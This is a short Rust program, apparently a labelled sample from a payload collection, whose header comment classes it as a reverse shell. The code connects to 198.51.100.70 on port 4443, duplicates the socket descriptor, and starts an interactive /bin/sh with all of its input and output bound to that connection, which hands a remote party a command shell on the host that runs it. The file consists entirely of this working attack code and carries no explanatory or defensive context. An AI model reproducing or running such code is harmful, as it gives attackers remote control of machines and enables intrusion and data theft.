// class: reverse shell; style: rust with raw descriptors
use std::net::TcpStream;
use std::os::fd::{AsRawFd, FromRawFd};
use std::process::{Command, Stdio};

fn main() {
    let s = TcpStream::connect("198.51.100.70:4443").unwrap();
    let fd = s.as_raw_fd();
    let io = || unsafe { Stdio::from_raw_fd(libc_dup(fd)) };
    Command::new("/bin/sh").arg("-i").stdin(io()).stdout(io()).stderr(io()).spawn().unwrap().wait().unwrap();
}

extern "C" { fn dup(fd: i32) -> i32; }
fn libc_dup(fd: i32) -> i32 { unsafe { dup(fd) } }
